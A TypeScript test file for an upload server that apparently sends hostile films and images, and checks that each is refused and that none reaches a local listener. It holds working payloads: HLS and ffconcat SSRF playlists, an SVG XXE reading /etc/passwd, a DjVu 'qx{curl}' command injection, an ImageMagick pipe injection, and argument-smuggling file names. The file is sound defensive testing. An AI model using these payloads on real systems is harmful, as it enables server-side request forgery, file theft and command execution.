/** Files that made others wait, or tried to have the programs that read them do something else. */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mediaTypeOf } from '#server/galleries/files/media-type-rules.ts';
import { findProgram } from '#server/platform/process/confined-program.ts';
import { startTestApp, type TestApp } from '#testing/app.ts';
import { sendAsForm } from '#testing/outside/pictures.ts';
import { type Creator, registerCreator } from '#testing/people.ts';
import { isLargePicture } from './encoder.ts';

let app: TestApp;
let creator: Creator;
let folder: string;
let listener: Server;
let reached = 0;
let listening = '';
beforeAll(async () => {
  app = await startTestApp({ withoutTasks: true });
  creator = await registerCreator(app);
  folder = await mkdtemp(join(tmpdir(), 'golden-hour-hostile-'));
  listener = createServer((socket) => {
    reached += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  const address = listener.address();
  listening = typeof address === 'object' && address ? `127.0.0.1:${address.port}` : '';
});
afterAll(async () => {
  listener.close();
  await rm(folder, { recursive: true, force: true });
  await app.close();
});

const numbers = (...values: number[]) => {
  const bytes = Buffer.alloc(4 * values.length);
  for (const [nth, value] of values.entries()) bytes.writeUInt32BE(value, 4 * nth);
  return bytes;
};
const box = (type: string, ...content: Buffer[]) => {
  const body = Buffer.concat(content);
  return Buffer.concat([numbers(8 + body.length), Buffer.from(type, 'latin1'), body]);
};

interface Film {
  readonly pictures: number;
  readonly seconds: number;
  readonly side: number;
  /** Where its media are, if not in the file. */
  readonly elsewhere?: string;
}
/** A film of which there is only the index. */
const film = ({ pictures, seconds, side, elsewhere }: Film) =>
  Buffer.concat([
    box('ftyp', Buffer.from('isom')),
    box(
      'moov',
      box('mvhd', numbers(0, 0, 0, 600, seconds * 600), Buffer.alloc(80)),
      box(
        'trak',
        box(
          'mdia',
          box('hdlr', numbers(0, 0), Buffer.from('vide'), Buffer.alloc(13)),
          box(
            'minf',
            ...(elsewhere
              ? [
                  box(
                    'dinf',
                    box('dref', numbers(0, 1), box('url ', numbers(0), Buffer.from(elsewhere))),
                  ),
                ]
              : []),
            box(
              'stbl',
              box(
                'stsd',
                numbers(0, 1, 36),
                Buffer.from('avc1'),
                Buffer.alloc(24),
                numbers(side * 65_536 + side),
              ),
              box('stss', numbers(0, 1, 1)),
              box('stsz', numbers(0, 0, pictures)),
            ),
          ),
        ),
      ),
    ),
    box('mdat', Buffer.alloc(100)),
  ]);

type Hostile = readonly [name: string, bytes: () => Buffer | string, code: string];
const films: readonly Hostile[] = [
  [
    'a minute of 600 large pictures a second',
    () => film({ pictures: 36_000, seconds: 60, side: 4096 }),
    'too_many_pixels',
  ],
  [
    '3,000 pictures a second of which one stands alone',
    () => film({ pictures: 180_000, seconds: 60, side: 1080 }),
    'too_many_pixels',
  ],
  ['more than a minute', () => film({ pictures: 1500, seconds: 62, side: 100 }), 'too_long'],
  [
    'a film whose media are at an address',
    () => film({ pictures: 60, seconds: 2, side: 100, elsewhere: `http://${listening}/m` }),
    'not_a_film',
  ],
  ['a playlist', () => `#EXTM3U\n#EXTINF:1,\nhttp://${listening}/a.ts\n`, 'not_a_film'],
  [
    'a playlist of parts',
    () =>
      `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nconcat:http://${listening}/a|/etc/passwd\n#EXT-X-ENDLIST`,
    'not_a_film',
  ],
  [
    'a list to concatenate',
    () => `ffconcat version 1.0\nfile 'http://${listening}/a.mp4'\n`,
    'not_a_film',
  ],
  [
    'a manifest of DASH',
    () =>
      `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><BaseURL>http://${listening}/</BaseURL></Period></MPD>`,
    'not_a_film',
  ],
  [
    'a session description',
    () => `v=0\r\nc=IN IP4 127.0.0.1\r\nm=video ${listening.split(':')[1]} RTP/AVP 96\r\n`,
    'not_a_film',
  ],
];

const pictures: readonly (readonly [string, () => Buffer | string])[] = [
  [
    'an SVG that loads',
    () =>
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://${listening}/a.png"/></svg>`,
  ],
  [
    'an SVG of entities',
    () =>
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "${'&a;'.repeat(50)}">]><svg xmlns="http://www.w3.org/2000/svg">&b;</svg>`,
  ],
  ['a program for printers', () => `%!PS\n(http://${listening}/) (r) file quit`],
  [
    'a document',
    () => `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(http://${listening}/)>>>>endobj`,
  ],
  [
    'DjVu with an annotation',
    () =>
      Buffer.concat([
        Buffer.from('AT&TFORM'),
        numbers(40),
        Buffer.from(`DJVUANTa(metadata (copyright "\\\n" . qx{curl ${listening}} . "a"))`),
      ]),
  ],
  [
    'a script of ImageMagick',
    () =>
      `push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 'https://${listening}/a.jpg"|ls "'\npop graphic-context`,
  ],
  [
    'a description of layers',
    () => `<?xml version="1.0"?><image><read filename="http://${listening}/a"/></image>`,
  ],
  ['a pipe', () => `|curl http://${listening}/`],
];

const sent = (door: string, content: Buffer | string, name: string) =>
  sendAsForm(creator.browser, `/api/uploads/${door}`, Buffer.from(content), name);

const hasFfmpeg = (await findProgram('ffmpeg')) !== undefined;

describe('for a portfolio', () => {
  it.skipIf(!hasFfmpeg).each(films)('%s is refused with the reason', async (_, content, code) => {
    const { status, json } = await sent('portfolio-film', content(), '-i.mp4');
    expect([status, json.code]).toEqual([400, `film.${code}`]);
    expect(json.error).toMatch(/\w+ \w+ \w+/);
  });

  it.each(pictures)('%s is no picture', async (_, content) => {
    const { status, json } = await sent('portfolio-image', content(), '|id.png');
    expect([status, json.error]).toEqual([
      400,
      'Please select a valid image file (JPEG, PNG, etc.)',
    ]);
  });
});

describe('in a gallery', () => {
  const all = [...films.slice(4), ...pictures].map(([name, content]) => [name, content] as const);
  it.each(all)('%s is opened by no program', (_, content) => {
    expect(mediaTypeOf(Buffer.from(content()).subarray(0, 400))).not.toMatch(/^(image|video)\//);
  });

  const chunk = (type: string, body: Buffer) => {
    const checked = Buffer.concat([Buffer.from(type), body]);
    return Buffer.concat([numbers(body.length), checked, numbers(crc32(checked))]);
  };
  const png = (side: number, depth: number) =>
    Buffer.concat([
      Buffer.from('89504e470d0a1a0a', 'hex'),
      chunk('IHDR', Buffer.concat([numbers(side, side), Buffer.from([depth, 6, 0, 0, 0])])),
      chunk('IDAT', deflateSync(Buffer.alloc(100_000))),
      chunk('IEND', Buffer.alloc(0)),
    ]);
  it.each([
    ['four megabytes in memory', 1000, 8, false],
    ['48 megapixels of a phone', 6900, 8, false],
    ['1.6 gigabytes of zeros in 16 bits', 14_140, 16, true],
  ])(
    'a picture of %s waits for other large ones: %i pixels wide',
    async (_, side, depth, large) => {
      const path = join(folder, `${side}.png`);
      await writeFile(path, png(side, depth));
      expect(await isLargePicture(path)).toBe(large);
    },
  );

  it('a picture of 100 million floating numbers waits for other large ones', async () => {
    const path = join(folder, 'float.tif');
    const tags: [tag: number, type: number, value: number][] = [
      ...[
        [256, 4, 10_000],
        [257, 4, 10_000],
        [258, 3, 32],
        [259, 3, 1],
        [262, 3, 1],
      ],
      ...[
        [273, 4, 200],
        [277, 3, 1],
        [278, 4, 10_000],
        [279, 4, 400_000_000],
        [339, 3, 3],
      ],
    ] as [number, number, number][];
    const file = Buffer.alloc(300);
    file.write('II*\0', 'latin1');
    file.writeUInt32LE(8, 4);
    file.writeUInt16LE(tags.length, 8);
    for (const [nth, [tag, type, value]] of tags.entries()) {
      file.writeUInt16LE(tag, 10 + 12 * nth);
      file.writeUInt16LE(type, 12 + 12 * nth);
      file.writeUInt32LE(1, 14 + 12 * nth);
      file.writeUInt32LE(value, 18 + 12 * nth);
    }
    await writeFile(path, file);
    expect(await isLargePicture(path)).toBe(true);
  });
});

it('nothing of them reached an address', () => {
  expect([listening, reached]).toEqual([expect.stringMatching(/^127/), 0]);
});
